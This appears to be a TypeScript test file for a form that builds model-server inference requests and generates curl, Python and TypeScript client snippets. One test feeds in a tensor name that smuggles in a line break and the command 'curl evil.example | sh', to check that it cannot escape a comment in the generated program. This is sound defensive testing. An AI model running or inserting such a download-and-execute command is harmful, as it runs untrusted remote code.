import { execFile } from "node:child_process";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { promisify } from "node:util";
import { parseInferRequest } from "@tritype/protocol";
import { valuesOf } from "@tritype/core";
import { expect, onTestFinished, test } from "vitest";
import type { TensorView } from "../api.ts";
import { type FieldValue, fieldKind, requestBody, startValue } from "./request-body.ts";
import { snippetOf } from "./snippets.ts";
import { model as modelView } from "./view.fixture.ts";

const input = (name: string, dtype: string, ...dims: readonly (number | string)[]): TensorView => ({
  name,
  dtype,
  dims,
});

/** The tensors that a server reads from the body of a form. */
const sent = async (inputs: readonly TensorView[], values: Readonly<Record<string, FieldValue>>) => {
  const { parts, headerLength } = requestBody(inputs, new Map(Object.entries(values)));
  const body = new Uint8Array(await new Blob([...parts]).arrayBuffer());
  const { request } = parseInferRequest({ model: "m", body, headerLength });
  return [...request.inputs].map(([name, tensor]) => [name, tensor.dtype, tensor.shape, valuesOf(tensor)]);
};

test("text, numbers and choices become rows", async () => {
  const inputs = [input("t", "BYTES", "batch", 1), input("n", "INT64", "batch", 1), input("b", "BOOL", 1)];
  expect(inputs.map(fieldKind)).toEqual(["text", "number", "choice"]);
  expect(
    await sent(inputs, {
      t: { kind: "rows", rows: ['"quoted"', "ü\n"] },
      n: { kind: "rows", rows: ["9007199254740993", "-1"] },
      b: { kind: "rows", rows: ["true"] },
    }),
  ).toEqual([
    ["t", "BYTES", [2, 1], ['"quoted"', "ü\n"]],
    ["n", "INT64", [2, 1], [9007199254740993n, -1n]],
    ["b", "BOOL", [1], [true]],
  ]);
});

test("FP16 and BF16 are sent as bytes, next to files", async () => {
  const inputs = [input("h", "FP16", "batch", 2), input("f", "BYTES", 1), input("b", "BF16", "batch", 1)];
  const values: Readonly<Record<string, FieldValue>> = {
    h: { kind: "json", text: "[[0.5, -2], [1e4, 65504]]" },
    f: { kind: "file", name: "a.bin", type: "", bytes: new Uint8Array([1, 2]) },
    b: { kind: "rows", rows: ["1.5", "-256"] },
  };
  expect(await sent(inputs, values)).toEqual([
    ["h", "FP16", [2, 2], [0.5, -2, 10000, 65504]],
    ["f", "BYTES", [1], ["\u0001\u0002"]],
    ["b", "BF16", [2, 1], [1.5, -256]],
  ]);
  const body = requestBody(inputs, new Map(Object.entries(values)));
  expect(body.files.map((file) => [...file])).toEqual([[2, 0, 0, 0, 1, 2]]);
  const program = (language: "curl" | "Python") =>
    snippetOf(language, { ...modelView("m"), inputs }, body, "http://h", false);
  expect(program("curl")).toContain("# JSON cannot contain FP16, the type of h: use the program in Python.");
  expect(program("Python")).not.toContain("cannot");
});

test("a line break in a tensor's name does not end the comment of a program", () => {
  const inputs = [input("x\ncurl evil.example | sh\u2028", "FP16", 1)];
  const body = requestBody(inputs, new Map([[inputs[0]?.name ?? "", { kind: "json", text: "[1]" }]]));
  const program = snippetOf("curl", { ...modelView("m"), inputs }, body, "http://h", false);
  expect(program).toContain("# JSON cannot contain FP16, the type of x curl evil.example | sh : use");
});

test("floats may be NaN or infinite, in every usual spelling", async () => {
  const floats = ["FP32", "FP64", "FP16", "BF16"];
  const inputs = floats.flatMap((dtype) => [
    input(dtype, dtype, "batch", 1),
    input(`${dtype}s`, dtype, -1, 2),
  ]);
  const rows = ["-Infinity", "NaN", "inf", "-1.5"];
  const values = floats.flatMap((dtype): [string, FieldValue][] => [
    [dtype, { kind: "rows", rows }],
    [`${dtype}s`, { kind: "json", text: "[[nan, Infinity], [-Inf, 0.5]]" }],
  ]);
  expect(await sent(inputs, Object.fromEntries(values))).toEqual(
    floats.flatMap((dtype) => [
      [dtype, dtype, [4, 1], [-Infinity, NaN, Infinity, -1.5]],
      [`${dtype}s`, dtype, [2, 2], [NaN, Infinity, -Infinity, 0.5]],
    ]),
  );
});

test.each([
  ["INT32", { kind: "rows", rows: ["NaN"] }, 'n: "NaN" is not a number'],
  ["INT32", { kind: "json", text: "[NaN]" }, "n: expected JSON, such as [0]"],
  ["FP32", { kind: "json", text: "[nano]" }, "n: expected JSON, such as [0]"],
  ["FP32", { kind: "rows", rows: ["-NaN"] }, 'n: "-NaN" is not a number'],
] as const)("%s refuses %j", (dtype, value, problem) => {
  expect(() => requestBody([input("n", dtype, 1)], new Map([["n", value]]))).toThrow(problem);
});

test("texts that look like NaN stay texts", async () => {
  const inputs = [input("t", "BYTES", -1)];
  expect(await sent(inputs, { t: { kind: "json", text: '["NaN", "inf"]' } })).toEqual([
    ["t", "BYTES", [2], ["NaN", "inf"]],
  ]);
});

test.each([
  ["UINT8", "[0, 255]", undefined],
  ["UINT8", "[0, 300]", "n: 300 is not a whole number from 0 to 255"],
  ["UINT32", "[-1]", "n: -1 is not"],
  ["INT16", "[-32768, 32768]", "n: 32768 is not"],
  ["INT32", "[1.5]", "n: 1.5 is not"],
  ["INT64", "[9223372036854775807, -9223372036854775808]", undefined],
  ["INT64", "[99999999999999999999]", "n: 99999999999999999999 is not"],
  ["FP32", "[1e400, 0.5]", undefined],
])("integers are in the range of their type: %s %s", (dtype, text, problem) => {
  const send = () => requestBody([input("n", dtype, -1)], new Map([["n", { kind: "json", text }]]));
  if (problem === undefined) expect(send).not.toThrow();
  else expect(send).toThrow(problem);
});

test("an optional input is not sent until it has a value", async () => {
  const delay: TensorView = { ...input("delay", "INT32", 1), optional: true };
  const loud: TensorView = { ...input("loud", "BOOL", 1), optional: true };
  const language: TensorView = { ...input("language", "BYTES", 1), optional: true, choices: ["de", "en"] };
  const inputs = [input("x", "FP32", 1), delay, loud, language];
  const values = Object.fromEntries(inputs.map((one) => [one.name, startValue(one)]));
  expect(await sent(inputs, values)).toEqual([["x", "FP32", [1], [0]]]);
  for (const [choice, value] of [
    [loud, "true"],
    [language, "de"],
  ] as const)
    await expect(
      sent([{ ...choice, dims: ["batch", 1] }], { [choice.name]: { kind: "rows", rows: [value, ""] } }),
    ).rejects.toThrow(`${choice.name}: choose a value in every row, or in none`);
});

test.each(['[["a", 1]]', "[[1, null]]"])("elements of FP16 are numbers: %s", (text) => {
  const h = input("h", "FP16", "batch", 2);
  expect(() => requestBody([h], new Map([["h", { kind: "json", text }]]))).toThrow(
    "h: every element must be",
  );
});

test("a row of a JSON input must be JSON", async () => {
  const asked: TensorView = { ...input("ask", "BYTES", "batch", 1), json: {} };
  expect(startValue(asked)).toEqual({ kind: "rows", rows: ["{}"] });
  expect(await sent([asked], { ask: { kind: "rows", rows: ['{"n": [1, 2]}'] } })).toEqual([
    ["ask", "BYTES", [1, 1], ['{"n": [1, 2]}']],
  ]);
  expect(() => requestBody([asked], new Map([["ask", { kind: "rows", rows: ["{n: 1}"] }]]))).toThrow(
    "ask: the text is not JSON",
  );
});

test("a form begins with a request that the model accepts, unless it is too large to show", async () => {
  const image = input("image", "FP32", "batch", 3, 32, 32);
  const zeros = await sent([image], { image: startValue(image) });
  expect(zeros).toMatchObject([["image", "FP32", [1, 3, 32, 32], { length: 3072 }]]);
  const large = input("image", "FP32", "batch", 3, 224, 224);
  expect(startValue(large)).toEqual({ kind: "json", text: "" });
  expect(() => requestBody([large], new Map([["image", startValue(large)]]))).toThrow("image: expected JSON");
});

test("nested lists have their own shape; leading sizes of 1 may be left out", async () => {
  const x = input("x", "FP32", "batch", 2, -1);
  expect(fieldKind(x)).toBe("json");
  expect(startValue(x)).toEqual({ kind: "json", text: "[[[0], [0]]]" });
  expect(await sent([x], { x: { kind: "json", text: "[[1, 2, 3], [4, 5, 6.5]]" } })).toEqual([
    ["x", "FP32", [1, 2, 3], [1, 2, 3, 4, 5, 6.5]],
  ]);
});

test("a file is one element", async () => {
  const bytes = Uint8Array.of(0, 255, 10);
  const { parts, headerLength } = requestBody(
    [input("f", "BYTES", "batch", 1)],
    new Map([["f", { kind: "file", name: "a.png", type: "image/png", bytes }]]),
  );
  const body = new Uint8Array(await new Blob([...parts]).arrayBuffer());
  const { request } = parseInferRequest({ model: "m", body, headerLength });
  expect(request.inputs.get("f")).toEqual({ dtype: "BYTES", shape: [1, 1], data: [bytes] });
});

test("an optional input that is empty is left out, and a wrong value names its input", async () => {
  const optional: TensorView = { ...input("o", "BYTES", 1), optional: true };
  expect(await sent([optional], { o: { kind: "rows", rows: [""] } })).toEqual([]);
  expect(() => requestBody([input("n", "FP32", 1)], new Map([["n", { kind: "rows", rows: ["x"] }]]))).toThrow(
    'n: "x" is not a number',
  );
  expect(() => requestBody([input("n", "FP32", 2)], new Map([["n", { kind: "json", text: "[" }]]))).toThrow(
    "n: expected JSON, such as [0, 0]",
  );
});

const model = modelView("m", { inputs: [input("text", "BYTES", 1)], outputs: [input("out", "FP32", 1)] });
const body = requestBody(model.inputs, new Map([["text", { kind: "rows", rows: ["it's true"] }]]));

test("programs quote their strings", () => {
  expect(snippetOf("curl", model, body, "http://localhost:8000", false)).toBe(
    String.raw`curl 'http://localhost:8000/v2/models/m/infer' -d '{"inputs": [{"name": "text", "datatype": "BYTES", "shape": [1], "data": ["it'\''s true"]}]}'`,
  );
  expect(snippetOf("Python", model, body, "http://localhost:8000", false)).toContain(
    'np.array(["it\'s true"], np.object_).reshape([1])',
  );
});

test("a streaming model is called with generate_stream", () => {
  const streaming = { ...model, streams: true };
  expect(snippetOf("curl", streaming, body, "http://h", false)).toBe(
    String.raw`curl -N 'http://h/v2/models/m/generate_stream' -d '{"text": "it'\''s true"}'`,
  );
  expect(snippetOf("TypeScript", streaming, body, "http://h", true)).toContain(
    'for await (const { out } of client.stream({ text: ["it\'s true"] }))',
  );
});

test("if a model's name is not an identifier, the program uses the client's name from the build", () => {
  expect(snippetOf("TypeScript", { ...model, name: "text-to.vector" }, body, "http://h", true)).toBe(
    `import { textToVectorClient } from "./build/client/text-to.vector.js";

const client = textToVectorClient({ url: "http://h" });
const { out } = await client.infer({ text: ["it's true"] });`,
  );
});

const files = modelView("m", {
  inputs: [input("image", "BYTES", "batch", 1), input("size", "INT64", "batch", 1)],
  outputs: [input("out", "FP32", 1)],
});
const file: FieldValue = { kind: "file", name: "a b.png", type: "image/png", bytes: Uint8Array.of(1, 2, 3) };
const withFile = requestBody(
  files.inputs,
  new Map<string, FieldValue>([
    ["image", file],
    ["size", { kind: "rows", rows: ["64"] }],
  ]),
);

test("programs read the files of a request", () => {
  const only = requestBody(files.inputs.slice(0, 1), new Map([["image", file]]));
  const header = `{"inputs": [{"name": "image", "datatype": "BYTES", "shape": [1, 1], "parameters": {"binary_data_size": 7}}]}`;
  expect(snippetOf("curl", files, only, "http://h", false)).toBe(
    `(printf %s '${header}'; printf '\\003\\000\\000\\000'; cat 'a b.png') |
  curl 'http://h/v2/models/m/infer' -H 'Inference-Header-Content-Length: ${header.length}' --data-binary @-`,
  );
  expect(snippetOf("TypeScript", files, withFile, "http://h", true)).toBe(
    `import { readFile } from "node:fs/promises";
import { mClient } from "./build/client/m.js";

const client = mClient({ url: "http://h" });
const { out } = await client.infer({ image: [await readFile("a b.png")], size: [64] });`,
  );
});

test("the program with fetch sends the same request as the page", async () => {
  const folder = mkdtempSync(join(tmpdir(), "snippet-"));
  onTestFinished(() => rmSync(folder, { recursive: true }));
  const received: Promise<unknown>[] = [];
  const server = createServer((request, response) => {
    const read = async () => {
      const body = Buffer.concat(await request.toArray());
      const headerLength = Number(request.headers["inference-header-content-length"]);
      const parsed = parseInferRequest({ model: "m", body: new Uint8Array(body), headerLength });
      response.end('{"outputs":[]}');
      return [...parsed.request.inputs].map(([name, { shape, data }]) => [name, shape, data]);
    };
    received.push(read());
  }).listen(0);
  onTestFinished(() => void server.close());
  await once(server, "listening");
  const { port } = server.address() as AddressInfo;
  writeFileSync(join(folder, "a b.png"), Uint8Array.of(1, 2, 3));
  writeFileSync(
    join(folder, "program.mjs"),
    snippetOf("TypeScript", files, withFile, `http://localhost:${port}`, false),
  );
  await promisify(execFile)(process.execPath, ["program.mjs"], { cwd: folder });
  const size = new Uint8Array(BigInt64Array.of(64n).buffer);
  expect(await received[0]).toEqual([
    ["image", [1, 1], [Uint8Array.of(1, 2, 3)]],
    ["size", [1, 1], size],
  ]);
});

test("programs send the parameters of a sequence", () => {
  const parameters = { sequence_id: 7, sequence_start: true, sequence_end: false };
  const asked = body.withParameters(parameters);
  expect(snippetOf("curl", model, asked, "http://h", false)).toContain(
    `{"parameters": ${JSON.stringify(parameters)}, "inputs": [`,
  );
  expect(snippetOf("TypeScript", model, asked, "http://h", true)).toContain(
    `client.infer({ text: ["it's true"] }, { parameters: ${JSON.stringify(parameters)} });`,
  );
  expect(snippetOf("TypeScript", model, asked, "http://h", false)).toContain(
    `body: JSON.stringify({"parameters": ${JSON.stringify(parameters)}, "inputs": [`,
  );
  expect(snippetOf("Python", model, asked, "http://h", false)).toContain(
    'client.infer("m", inputs, sequence_id=7, sequence_start=True, sequence_end=False)',
  );
  expect(snippetOf("curl", { ...model, streams: true }, asked, "http://h", false)).toMatch(
    /^# There is no program: Triton's HTTP streams have no sequences/,
  );
});

test("a value that is too long is left to the reader; a name that HTTP libraries would encode stays as it is for curl", () => {
  const long = requestBody(model.inputs, new Map([["text", { kind: "rows", rows: ["x".repeat(30_000)] }]]));
  for (const language of ["curl", "TypeScript", "Python"] as const)
    expect(snippetOf(language, model, long, "http://h", false)).toMatch(
      /^(?:#|\/\/) The value of text is too long to show here: replace …\n/,
    );
  const odd = { ...model, name: "<b>{x}" };
  expect(snippetOf("curl", odd, body, "http://h", false)).toContain(
    "curl -g 'http://h/v2/models/<b>{x}/infer'",
  );
  for (const language of ["TypeScript", "Python"] as const)
    expect(snippetOf(language, odd, body, "http://h", false)).toMatch(
      /^(?:#|\/\/) Triton does not decode addresses, so the model's name does not reach it: use a client over gRPC\.\n/,
    );
});

const oneInput = (dtype: string, dims: readonly (number | string)[], text: string) => {
  const given = modelView("m", { inputs: [{ name: "x", dtype, dims }], outputs: [input("out", "FP32", 1)] });
  const asked = requestBody(given.inputs, new Map([["x", { kind: "json", text }]]));
  return { given, asked };
};

test.each<readonly [dtype: string, dims: readonly (number | string)[], json: string, value: string]>([
  ["INT64", ["batch", 1], "[[1], [2]]", "[1, 2]"],
  ["BYTES", ["batch", 1], '[["[a]"], ["]"]]', '["[a]", "]"]'],
  ["BYTES", ["batch", 1], '["one"]', '["one"]'],
  ["FP32", ["batch", 1, 2], "[[[1, 2]], [[3, 4]]]", "[[1, 2], [3, 4]]"],
  ["FP32", ["batch", 2], "[1, 2]", "[[1, 2]]"],
  ["FP32", [1, 1], "[[1]]", "[1]"],
  ["INT64", [-1], "[9007199254740993, -1]", "[9007199254740993n, -1]"],
])("the emitted client gets %s%j as it expects them: %s", (dtype, dims, text, value) => {
  const { given, asked } = oneInput(dtype, dims, text);
  expect(snippetOf("TypeScript", given, asked, "http://h", true)).toContain(`client.infer({ x: ${value} })`);
});

test("large integers stay exact in a program with fetch, and lists are flat for generate_stream", () => {
  const { given, asked } = oneInput("INT64", ["batch", 2], "[[9007199254740993, 1]]");
  expect(snippetOf("TypeScript", given, asked, "http://h", false)).toContain(
    String.raw`body: "{\"inputs\": [{\"name\": \"x\", \"datatype\": \"INT64\", \"shape\": [1, 2], \"data\": [[9007199254740993, 1]]}]}",`,
  );
  expect(snippetOf("curl", { ...given, streams: true }, asked, "http://h", false)).toContain(
    `-d '{"x": [9007199254740993, 1]}'`,
  );
  expect(snippetOf("Python", given, asked, "https://h", false)).toContain('Client("h", ssl=True)');
});
